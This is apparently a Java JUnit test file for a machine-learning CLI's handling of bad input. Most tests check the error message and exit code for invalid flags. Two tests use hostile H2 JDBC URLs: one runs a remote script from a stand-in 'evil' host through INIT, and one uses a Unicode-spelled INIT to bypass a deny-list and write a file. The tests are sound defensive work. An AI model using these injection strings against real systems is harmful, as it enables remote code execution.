package io.learncast.app.cli;

import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.api.Test;

import java.nio.file.Files;
import java.nio.file.Path;

import static org.junit.jupiter.api.Assertions.*;

/** Every bad input: one clear line naming the flag and what is allowed, exit 2, nothing written, no stack trace. */
class BadInputTest {
    @TempDir Path dir;

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', value = {
            "--task nope:p=3                          | --task | unknown task 'nope'",
            "--task modadd:q=3                        | --task | no parameter 'q'",
            "--task modadd                            | --task | needs parameter p",
            "--task modmul:p=91                       | --task | prime",
            "--task modadd:p=23 --width 0             | --width | width 0 is out of range",
            "--task modadd:p=23 --width -5            | --width | out of range",
            "--task modadd:p=23 --lr 0                | --lr | learning rate",
            "--task modadd:p=23 --lr -1e-3            | --lr | learning rate",
            "--task modadd:p=23 --train-frac 0        | --train-frac | outside (0, 1]",
            "--task modadd:p=23 --train-frac 1.01     | --train-frac | outside (0, 1]",
            "--task modadd:p=23 --depth 9             | --depth | 1–4",
            "--task modadd:p=23 --batch zero          | --batch | not a batch size",
            "--task modadd:p=23 --activation swish    | --activation | unknown activation",
            "--task modadd:p=23 --optimizer lion      | --optimizer | unknown optimizer",
            "--task modadd:p=23 --label-noise 1       | --label-noise | outside [0, 1)",
            "--task sparse-parity:n=20,k=30           | --task | out of range",
            "--task parity:n=30 --train-frac 0.5      | --train-frac | n_train",
            "--task csv:path=/no/such.csv,label=y     | --task | cannot read the file",
            "--task modadd:p=23 --lr abc              | --lr | 'abc' is not a double",
            "--task modadd:p=23 --batch 64 --drop-last off | --drop-last | cannot train drop_last off",
            "--task modadd:p=23 --drop-last maybe     | --drop-last | not on or off",
    })
    void badTrainInputIsAClearUserError(String args, String flag, String fragment) {
        Path db = dir.resolve("store");
        String[] argv = (args.trim() + " --db " + db).split("\\s+");
        String[] full = new String[argv.length + 1];
        full[0] = "train";
        System.arraycopy(argv, 0, full, 1, argv.length);
        CliRunner.Result r = CliRunner.run(full);
        assertEquals(2, r.code(), r.err());
        assertTrue(r.err().contains(flag), "names the flag " + flag + ": " + r.err());
        assertTrue(r.err().contains(fragment), "says what is wrong (" + fragment + "): " + r.err());
        assertFalse(r.err().contains("\tat "), "no stack trace: " + r.err());
        assertFalse(Files.exists(db), "nothing is written for bad input");
    }

    /** A spec asking the farm for a kept last batch (drop_last off: what PyTorch does by default) is refused, dry run or not, before a store exists. */
    @Test
    void aSpecAskingForAKeptLastBatchIsRefusedBeforeAnythingIsWritten() throws Exception {
        Path spec = Files.writeString(dir.resolve("g.yaml"), "name: g\nproperty: {task: \"modadd:p=23\"}\naxes:\n  batch: [64]\n  drop_last: [on, off]\n  budgets: [100]\n");
        Path db = dir.resolve("store");
        for (String[] argv : new String[][] {{"farm", "enqueue", spec.toString(), "--db", db.toString()}, {"farm", "enqueue", spec.toString(), "--dry-run", "--db", db.toString()}}) {
            CliRunner.Result r = CliRunner.run(argv);
            assertEquals(2, r.code(), r.err());
            assertTrue(r.err().contains("g.yaml: drop_last"), "names the spec and its key: " + r.err());
            assertTrue(r.err().contains("corpus import"), "says how runs trained elsewhere come in: " + r.err());
            assertFalse(r.err().contains("\tat "), r.err());
            assertFalse(Files.exists(db), "nothing is written");
        }
    }

    @Test
    void anUnwritableDataFolderIsAUserError() throws Exception {
        Path file = Files.writeString(dir.resolve("a-file"), "x");
        CliRunner.Result r = CliRunner.run("runs", "--db", file.resolve("store").toString());
        assertEquals(2, r.code());
        assertTrue(r.err().contains("--db") && r.err().contains("cannot create the data folder"), r.err());
    }

    @Test
    void unsafeJdbcUrlsAreRefused() {
        CliRunner.Result r = CliRunner.run("runs", "--db", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'");
        assertEquals(2, r.code());
        assertTrue(r.err().startsWith("error: --db: the JDBC URL sets INIT, which learncast does not allow"), r.err());
        assertEquals(1, r.err().strip().lines().count(), r.err());
    }

    /** Found by the hostile pass: a dotless ı got INIT past the old deny-list, and H2 ran it (exit 0, the file written). */
    @Test
    void aUnicodeSpelledInitIsRefusedAndRunsNothing() {
        Path pwned = dir.resolve("PWNED");
        String url = "jdbc:h2:file:" + dir.resolve("x").resolve("a") + ";ınıt=CALL FILE_WRITE(STRINGTOUTF8('pwned'),'" + pwned + "')";
        CliRunner.Result r = CliRunner.run("runs", "--db", url);
        assertEquals(2, r.code(), r.out() + r.err());
        assertTrue(r.err().startsWith("error: --db:") && r.err().contains("INIT"), r.err());
        assertFalse(Files.exists(pwned));
    }

    /** Found by the hostile pass: {@code serve --threads 0} and {@code -1} started a server that could answer nothing. */
    @ParameterizedTest(name = "--threads {0}")
    @org.junit.jupiter.params.provider.ValueSource(strings = {"0", "-1", "257"})
    void serveRefusesAThreadCountOutOfRange(String threads) {
        CliRunner.Result r = CliRunner.run("serve", "--threads", threads, "--port", "0", "--db", dir.resolve("store").toString());
        assertEquals(2, r.code(), r.out() + r.err());
        assertTrue(r.err().startsWith("error: --threads: request threads " + threads + " is out of range (1–256"), r.err());
        assertFalse(Files.exists(dir.resolve("store")), "nothing is opened for a bad flag");
    }

    @Test
    void unknownCommandsAndFlagsPointToTheClosestOrToHelp() {
        CliRunner.Result r = CliRunner.run("train", "--task", "modadd:p=7", "--widht", "3");
        assertEquals(2, r.code());
        assertTrue(r.err().contains("--widht") && r.err().contains("Did you mean: --width?"), r.err());
        CliRunner.Result far = CliRunner.run("train", "--task", "modadd:p=7", "--qqqqqq", "3");
        assertEquals(2, far.code());
        assertTrue(far.err().contains("--qqqqqq") && far.err().contains("--help"), far.err());
    }
}
